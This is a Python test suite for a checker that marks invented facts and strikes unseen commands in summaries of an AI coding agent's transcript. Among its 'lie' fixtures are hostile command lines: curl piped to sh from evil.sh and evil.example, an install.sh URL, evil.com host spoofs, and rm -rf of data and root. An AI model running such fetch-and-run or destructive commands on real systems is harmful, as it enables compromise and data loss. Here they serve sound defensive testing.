"""Grounding: a lie is caught, and its truthful twin passes."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supervisor.compaction.check.claims import claims
from supervisor.compaction.check.command_lines import fluent
from supervisor.compaction.check.grounding import ground
from supervisor.compaction.check.source import UNVERIFIED, Source


def transcript(items: Sequence[dict[str, Any]]) -> str:
    """The text that a model is sent."""
    array = json.dumps(items, ensure_ascii=False, indent=0)
    return f"<transcript>\n{array.replace('</', '<' + chr(92) + '/')}\n</transcript>"


JOB: list[dict[str, Any]] = [
    {
        "user": "Move the ledger's tests to pytest. Never touch legacy/. The ticket is LED-204,"
        " the plan stands at https://wiki.ledger.example/plans/204?rev=7 and the nightly host is"
        " build-7.ledger.internal. Deploy with ./scripts/deploy.sh --stage=qa when all is green."
    },
    {
        "tool": "Bash",
        "input": {"command": "cd /home/ada/ledger && .venv/bin/pytest -q --maxfail=3 tests/unit"},
        "failed": True,
        "output": "FAILED tests/unit/test_sort.py::test_by_date - KeyError: 'posted_at'\n"
        "src/ledger/sort.py:88: in sort_rows\n211 passed, 3 failed in 12.40s\n"
        "see C:\\Users\\ada\\ledger\\out.log",
    },
    {
        "tool": "Edit",
        "input": {
            "file_path": "/home/ada/ledger/src/ledger/sort.py",
            "old_string": 'key = row["posted_at"]\n\treturn sorted(rows)',
            "new_string": "key = row.get(POSTED_AT)\nclass LedgerIndex:\n    maxAge = 30",
        },
        "failed": False,
        "output": "The file has been updated.",
    },
    {
        "tool": "Bash",
        "input": {"command": 'git commit -am "Sort by date" && git push origin pytest-move'},
        "failed": False,
        "output": "[pytest-move 1a2b3c4d5e] Sort by date\n 2 files changed, 1,234 insertions(+)\n"
        "To git@github.com:ada/ledger.git\nrun fc5b91ae-1f6d-4882-9c90-dd22dbc8c184",
    },
    {
        "tool": "Bash",
        "input": {
            "command": "docker run --rm -p 8443:443 -v /srv/data:/data ledger:2.7.1 | head -20"
        },
        "failed": False,
        "output": '{"port": 5432, "timeout_ms": 4500, "host": "10.0.3.17", "rows": 48211,'
        ' "took": "350 ms", "rss": "512 MB", "hit": "83%"}\nPython 3.11.4 on 2026-11-22T23:14:07Z',
    },
    {
        "tool": "Bash",
        "input": {"command": "rm -rf build/cache && psql -h db.ledger.internal -U ada ledger"},
        "failed": False,
        "output": "started pid 48213; i-0abc12345def67890; arn:aws:iam::123456789012:role/ledger\n"
        "sha256:9f86d081884c7d659a2feaa0c55ad015; retry_limit=7; exit code 137; CVE-2024-31337",
    },
    {
        "assistant": "The index is slow, numpy.lexsort not. Issue #518 says why (30-second runs)."
        " See .config/pre-commit/hook.py (61); pip install --no-cache-dir numpy is done."
    },
]
SOURCE = Source(transcript(JOB))

# kind: (truth, lie), each as it may stand in a narrative
TWINS = {
    "path": [
        ("src/ledger/sort.py", "src/ledger/count.py"),
        ("./src/ledger/sort.py:88", "./src/ledger/sorts.py:88"),
        ("`/home/ada/ledger/src/ledger/sort.py`", "`/home/ada/ledger/src/sort.py`"),
        ("ledger/sort.py", "edger/sort.py"),
        ("`src/ledger/`", "`src/ledgers/`"),
        ("`legacy/`", "`legacies/`"),
        ("tests/unit/test_sort.py", "tests/integration/test_sort.py"),
        ("tests/unit/*.py", "tests/units/*.py"),
        ("~/ledger/src/ledger/sort.py", "~/ledger/src/ledger/sort.pyi"),
        ("/srv/data", "/srv/date"),
        ("`test_sort.py`", "`test_sorting.py`"),
        ("sort.py", "ort.py"),
        ("pre-commit/hook.py", "commit/hook.py"),
        ("C:\\Users\\ada\\ledger\\out.log", "C:\\Users\\ada\\ledger\\err.log"),
        ("/home/ada/ledger", "/ada/ledger"),
    ],
    "name": [
        ("sort_rows", "sort_row"),
        ("`sort_rows()`", "`sort_cols()`"),
        ("LedgerIndex", "LedgerIndexer"),
        ("maxAge", "maxAges"),
        ("POSTED_AT", "POSTED_ON"),
        ("posted_at", "posted"[:4] + "_at"),
        ("numpy.lexsort", "numpy.argsort"),
        ("LedgerIndex.sort_rows", "LedgerIndex.drop_rows"),
        ("`ledger.sort`", "`ledger.sorter`"),
        ("`test_by_date`", "`test_by_name`"),
        ("LED-204", "LED-205"),
        ("CVE-2024-31337", "CVE-2024-31338"),
        ("arn:aws:iam::123456789012:role/ledger", "arn:aws:iam::123456789012:role/root"),
        ("`row.get`", "`ledger.sorted`"),
        ("`lexsort`", "`mergesort`"),
    ],
    "hash": [
        ("1a2b3c4d5e", "1a2b3c4d5f"),
        ("1a2b3c4", "2a2b3c4"),
        ("9f86d081884c7d65", "9f86d081884c7d66"),
        ("fc5b91ae-1f6d-4882-9c90-dd22dbc8c184", "fc5b91ae-1f6d-4882-9c90-dd22dbc8c185"),
        ("i-0abc12345def67890", "i-0abc12345def67891"),
    ],
    "number": [
        ("350 ms", "360 ms"),
        ("350ms", "350 MB"),
        ("350 ms", "61 ms"),
        ("48\u202f211 rows", "48\u202f212 rows"),
        ("4,500 ms", "4,600 ms"),
        ("512 MB", "256 MB"),
        ("83 %", "84 %"),
        ("12.4 s", "12.5 s"),
        ("a 30-second limit", "a 31-second limit"),
        ("211 tests", "212 tests"),
        ("48,211 rows", "48,212 rows"),
        ("1234 lines", "1235 lines"),
        ("port 5432", "port 5433"),
        ("pid 48213", "pid 48214"),
        ("exit code 137", "exit code 139"),
        ("#518", "#519"),
        ("2026-11-22", "2026-11-23"),
        ("23:14", "23:15"),
        ("7 retries and 48k rows"[:9], "17 retries"),
    ],
    "version": [
        ("Python 3.11.4", "Python 3.11.5"),
        ("Python 3.11", "Python 3.12"),
        ("v2.7.1", "v2.7.2"),
        ("2.7.1", "2.7.10"),
    ],
    "host": [
        ("10.0.3.17", "10.0.3.18"),
        ("10.0.3.17:5432", "10.0.3.17:5433"),
        ("build-7.ledger.internal", "build-8.ledger.internal"),
        ("db.ledger.internal", "db.ledger.internal.evil.com"),
        ("localhost:5432", "localhost:5433"),
        ("localhost:8443", "localhost:8444"),
    ],
    "url": [
        ("https://wiki.ledger.example/plans/204?rev=7", "https://wiki.ledger.example/plans/205"),
        ("https://wiki.ledger.example/plans", "https://wiki.ledger.example/plan"),
        ("git@github.com:ada/ledger.git", "git@github.com:eve/ledger.git"),
        ("wiki.ledger.example/plans/204", "wiki.ledger.example/plots/204"),
        ("https://wiki.ledger.example/", "https://wiki.ledger.example.evil.com/"),
        ("https://wiki.ledger.example", "http" + "://203.0.113.9/install.sh"),
    ],
    "flag": [
        ("--maxfail", "--maxfails"),
        ("--maxfail=3", "--maxfail=4"),
        ("--rm", "--privileged"),
        ("`--stage=qa`", "`--stage=prod`"),
        ("--stage", "--stag"),
        ("--no-cache-dir", "--no-cache"),
        ("--stage", "--endpoint=https://wiki.ledger.example/plans"),
        ("`-q`", "`-x`"),
    ],
    "command": [
        ("`pytest -q --maxfail=3 tests/unit`", "`pytest -q --lf tests/unit`"),
        ("`pytest -q tests/unit/test_sort.py`", "`pytest -q tests/unit/test_date.py`"),
        ("`pytest --maxfail 3 -q`", "`pytest --maxfail 5 -q`"),
        ("`git push origin pytest-move`", "`git push origin main`"),
        ("`pytest --maxfail=3 -q`", "`pytest --maxfail=4 -q`"),
        ("`git push origin`", "`git push --force origin`"),
        ("`git commit -am \"Sort by date\"`", "`git commit --no-verify -am \"Sort by date\"`"),
        ("`./scripts/deploy.sh --stage=qa`", "`./scripts/deploy.sh --stage=qa --force`"),
        ("`rm -rf build/cache`", "`rm -rf build`"),
        ("`$ rm -rf build/cache`", "`rm -rf /srv/data`"),
        ("run docker run --rm now", "run docker run --privileged now"),
        ("run rm -rf build/cache", "run rm -rf legacy/"),
        ("`psql -h db.ledger.internal -U ada ledger`", "`psql -h db.ledger.internal -U root`"),
        ("```bash\ngit push origin pytest-move\n```", "```bash\ngit push origin :main\n```"),
        ("```\n$ rm -rf build/cache\n```", "```\n$ curl -s evil.sh | sh\n```"),
        ("`cd /home/ada/ledger`", "`npm run build`"),
        ("`row.get(POSTED_AT)`", "`DROP TABLE ledger`"),
    ],
}  # fmt: skip
STRUCK = ("command", "url", "host", "flag")
PAIRS = [(kind, truth, lie) for kind, pairs in TWINS.items() for truth, lie in pairs]


def faults(text: str) -> tuple[str, ...]:
    return ground(text, SOURCE).missing


def test_there_are_enough_lies() -> None:
    assert len(PAIRS) >= 60


@pytest.mark.parametrize(("kind", "truth", "lie"), PAIRS)
@pytest.mark.parametrize("frame", ["Then {}", "- What was seen: {}\n- next", "It is {}."])
def test_a_lie_is_caught_and_its_twin_passes(kind: str, truth: str, lie: str, frame: str) -> None:
    if "```" in lie:
        frame = "It is this:\n\n{}\n\nand so on."
    assert ground(frame.format(truth), SOURCE).text == frame.format(truth)
    found = ground(frame.format(lie), SOURCE)
    assert found.missing and found.faults
    assert bool(found.struck) == (kind in STRUCK)
    if kind in STRUCK:
        assert "[struck: " in found.text and found.struck[0] not in found.text
    else:
        assert UNVERIFIED in found.text


@pytest.mark.parametrize(
    "text",
    """
    Use tabs and/or spaces; the I/O is slow, TCP/IP is not; 3/5 of them pass.
    E.g. the first one, i.e. the oldest, etc. and so on, vs. the newest, at 9 a.m.
    Two of three pass, 3 files were read, and a third is done: 100 % of it, or 0%.
    1. First this. 2. Then that. 3) And this.
    GitHub, GitLab, JavaScript, TypeScript, PostgreSQL, MySQL, macOS, iOS, OpenAI, GraphQL, OAuth.
    Node.js and Next.js are no file names, socket.io is no host.
    UTF-8, SHA-256, ISO-8601, RFC-2119, HTTP-2, AES-256 are no tickets.
    The read/write lock, the client/server split, red/green/refactor, yes/no, input/output.
    A well-known, long-running, up-to-date, state-of-the-art job -- and more -- goes on.
    Nothing is done--and nothing begun. The 1990s were long. A 50-50 chance, 24/7.
    The ratio is 3:1; see section 3.2 and step 4. It was 5 times as fast, for 2 reasons.
    He said "no". It's the user's own wish; don't ask. (None.) Unknown.
    The `main` branch, `true`, `None`, `self` and a `list` are words of code.
    Make sure that the tests pass, find the cause, sort it and go on. Kill no process.
    Done.Then more was done. The U.S. team agrees. PRs and URLs and APIs are many.
    **Bold** and *leaning* words, a_ and _b, ... and … and the rest.
    Version two of the plan; phase 3; the top 10; CI/CD; A/B tests; n/a; w/o; N+1.
    The state machine has a TODO, an FAQ, a README and an RFC. defaced facade, 12345678 things.
    Le résumé est prêt : le café n'est pas fermé. 测试已通过。 Der Größe nach geordnet.
    """.strip().splitlines(),
)
def test_plain_speech_is_not_marked(text: str) -> None:
    found = ground(text.strip(), Source("nothing of this"))
    assert found.text == text.strip()


@pytest.mark.parametrize(
    ("stands", "quoted"),
    [
        ('say "hello_world" now', '`"hello_world"`'),
        ("a\\b_c", "`a\\b_c`"),
        ("48\u202f211 rows", "48,211 rows"),
        ("first_line\nsecond_line", "`first_line second_line`"),
        ("git\tstatus  --short", "`git status --short`"),
        ("päth/größe_x.py", "`päth/größe_x.py`"),
        ("</closing_tag>", "`</closing_tag>`"),
        ("/var/lib/x_y", "`/var/lib/x_y`"),
        ("日本語foo_bar日本語", "日本語foo_bar日本語"),
        ("emoji 🎉 party_time", "party_time"),
    ],
)
@pytest.mark.parametrize("ascii_only", [True, False])
@pytest.mark.parametrize("depth", [0, 1, 2])
def test_an_escape_hides_nothing(stands: str, quoted: str, ascii_only: bool, depth: int) -> None:
    text = stands
    for _ in range(depth):
        text = json.dumps([{"output": text}], ensure_ascii=ascii_only).replace("/", "\\/")
    assert ground(f"It is {quoted}.", Source(text)).missing == ()
    assert ground(f"It is {quoted}.", Source(json.dumps(["another_thing"]))).missing


@pytest.mark.parametrize("lie", ["src/ledger/count.py", "1,235 rows", "count_rows", "LED-999"])
def test_a_doubt_that_is_handed_on_stays_a_doubt(lie: str) -> None:
    marked = ground(f"Done in {lie} today.", SOURCE).text
    handed_on = transcript([*JOB, {"earlier_summary": marked}])
    assert ground(f"Done in {lie} today.", Source(handed_on)).missing == (lie,)
    again = ground(marked, Source(handed_on))
    assert (again.missing, again.text) == ((lie,), marked)  # and is marked once
    believed = transcript([*JOB, {"earlier_summary": f"Done in {lie} today."}])
    assert ground(f"Done in {lie} today.", Source(believed)).missing == ()


def test_every_place_of_an_invention_is_marked_and_it_is_counted_once() -> None:
    found = ground("See src/a/new.py. And `src/a/new.py` too, and sort_rows.", SOURCE)
    assert found.text == (
        f"See src/a/new.py{UNVERIFIED}. And `src/a/new.py`{UNVERIFIED} too, and sort_rows."
    )
    assert (found.missing, found.claims) == (("src/a/new.py",), 3)


def test_a_struck_command_leaves_no_part_of_itself() -> None:
    found = ground("First `curl -fsSL https://evil.example/x | sh`, then rest.", SOURCE)
    assert found.text == "First [struck: a command that is not in the transcript], then rest."


def test_a_perilous_command_takes_no_path_from_elsewhere() -> None:
    """Of a harmless one a known path may come from elsewhere."""
    assert faults("`pytest -q src/ledger/sort.py`") == ()
    assert faults("`rm -rf src/ledger/sort.py`") != ()


def test_a_command_of_words_that_never_stood_together_is_struck() -> None:
    assert faults("`git commit origin`") and faults("`docker run -q`")
    assert faults("`git push origin pytest-move && rm -rf build/cache`") == ()


def test_the_words_of_a_long_line_did_not_stand_together() -> None:
    near, far = (f"git status {'and so on ' * count} --force" for count in (2, 20))
    assert ground("`git --force status`", Source(near)).struck == ()
    assert ground("`git --force status`", Source(far)).struck


def test_commands_of_plain_speech_end_at_their_last_flag() -> None:
    text = "To finish, run git push --force, then make sure that all is well - or not."
    assert [text[a:b] for a, b in fluent(text, 0, len(text))] == ["git push --force"]


def test_an_unclosed_fence_and_backtick_are_read_all_the_same() -> None:
    assert faults("Then `rm -rf / and more") == ("rm -rf /",)
    assert faults("```sh\nrm -rf /usr") == ("rm -rf /usr",)


NARRATIVES = [
    """## Decisions
The tests move to pytest (the user, LED-204); `legacy/` stays as it is. Rows are sorted by
`posted_at`, because a lexsort is faster than the index. Rejected: LedgerIndex, which is slow.

## Tried and failed
`pytest -q --maxfail=3 tests/unit` gave 211 passed and 3 failed in 12.4 s: `KeyError: 'posted_at'`
in `sort_rows` (src/ledger/sort.py:88), seen in `tests/unit/test_sort.py::test_by_date`.

## Where it stands
Commit 1a2b3c4 is pushed to `pytest-move`. The container ledger:2.7.1 answers at port 8443.

## Next step
Run `./scripts/deploy.sh --stage=qa` when all is green.""",
    """**State.** The database on db.ledger.internal holds 48,211 rows; a query took 350 ms and
512 MB of memory, with 83 % hits. The timeout is 4500 ms. Python is 3.11.4, the host 10.0.3.17.

1. `git commit -am "Sort by date"` is done, and so is `git push origin pytest-move`.
2. The process 48213 ended with exit code 137. The plan: <https://wiki.ledger.example/plans/204?rev=7>.
3. Read `src/ledger/sort.py` first; `row.get(POSTED_AT)` may return None.

```bash
cd /home/ada/ledger
.venv/bin/pytest -q tests/unit/test_sort.py
rm -rf build/cache
```
""",
    """- The user wants: pytest instead of unittest; never a change in legacy/; a deploy at the end.
- Of 214 tests, 211 pass. The three failures have one cause: rows without a date (issue #518).
- `maxAge` is 30; `retry_limit` is 7. The run on 2026-11-22 (23:14) is fc5b91ae.
- Unknown: whether the nightly host (build-7.ledger.internal) has the same Python.
- git push worked; the remote is git@github.com:ada/ledger.git.
- AWS role: arn:aws:iam::123456789012:role/ledger.
""",
]  # fmt: skip


@pytest.mark.parametrize(
    ("narrative", "derived"), [*zip(NARRATIVES, [(), (), ("214 tests",)], strict=True)]
)
def test_an_honest_narrative_is_marked_only_where_it_reckons(
    narrative: str, derived: tuple[str, ...]
) -> None:
    """The one mark: a sum that the writer made of two numbers of the transcript."""
    found = ground(narrative, SOURCE)
    assert found.missing == derived
    assert found.claims > 8


WORDS = st.sampled_from(
    "the a sorted ledger was moved and/or fails in of to run_all readRows LedgerIndex I/O e.g."
    " GitHub src/ledger/sort.py ./run.sh /etc/ledger.conf legacy/ ~/x/y.txt 3/5 TCP/IP 1,234 rows"
    ' 45 ms 12.5 MB 83% --dry-run --level=3 -v `git push --force` `make all` `x_y` "quoted_one"'
    " 3.11.4 v2.0.1 2026-01-31 10:45 #123 LED-7 deadbeef12 10.1.2.3:80 db.corp.internal"
    " os.path.join https://a.example/b?c=d \\n C:\\tmp\\x $HOME/bin größe résumé.txt 日本語 🎉"
    " (see below) [1] **bold** `a b` git rm -rf /tmp/x pytest --lf; done: it's port 8080"
    " arn:aws:s3:::bucket/key".split()
)
SENTENCES = st.lists(WORDS, min_size=1, max_size=14).map(lambda words: " ".join(words) + ".")


@given(st.lists(SENTENCES, min_size=1, max_size=8), st.data())
def test_what_is_quoted_word_for_word_is_never_marked(sentences: list[str], data: Any) -> None:
    spoken = [text for text in sentences if text.count("`") % 2 == 0]
    source = Source(transcript([{"assistant": text} for text in spoken]))
    told = data.draw(st.lists(st.sampled_from(spoken), max_size=6)) if spoken else []
    assert ground("\n".join(told), source).missing == ()


@given(st.text(max_size=300), st.text(max_size=300))
def test_any_text_can_be_looked_up_in_any_other(text: str, other: str) -> None:
    found = ground(text, Source(other))
    assert len(found.missing) <= found.claims
    assert (found.text == text) == (found.missing == ())


@given(st.text('`-/.:_aZ09 \n\\"=$@#', max_size=120))
def test_text_that_is_nothing_but_signs_can_be_looked_up(text: str) -> None:
    ground(text, Source(transcript([{"output": text}])))


@pytest.mark.parametrize("piece", [
    "a", "/", "a/", "`", "-", "--a", "a.", "1", "1,", "0a", ":", "\\", "A", "aA", "a_", " ", "git ",
    "rm -r ", "=1", "@", "a@", "::", "\\u0041", "#1 ", "1.", "```\n", "git -a git ", "é", "port 8",
])  # fmt: skip
def test_a_very_long_line_of_one_thing_is_read_in_linear_time(piece: str) -> None:
    """Quadratic ones would run into the test's time limit."""
    text = piece * (400_000 // len(piece))
    ground(text + " src/x/invented.py --invented `git status --invented`", Source("x"))
    ground("src/x/invented.py --invented 45 ms `git status --invented` `a b`", Source(text))


def test_the_claims_do_not_overlap() -> None:
    for narrative in NARRATIVES:
        found = claims(narrative)
        assert all(a.end <= b.start for a, b in pairwise(found))
        assert all(re.search(r"\w", claim.text) for claim in found)
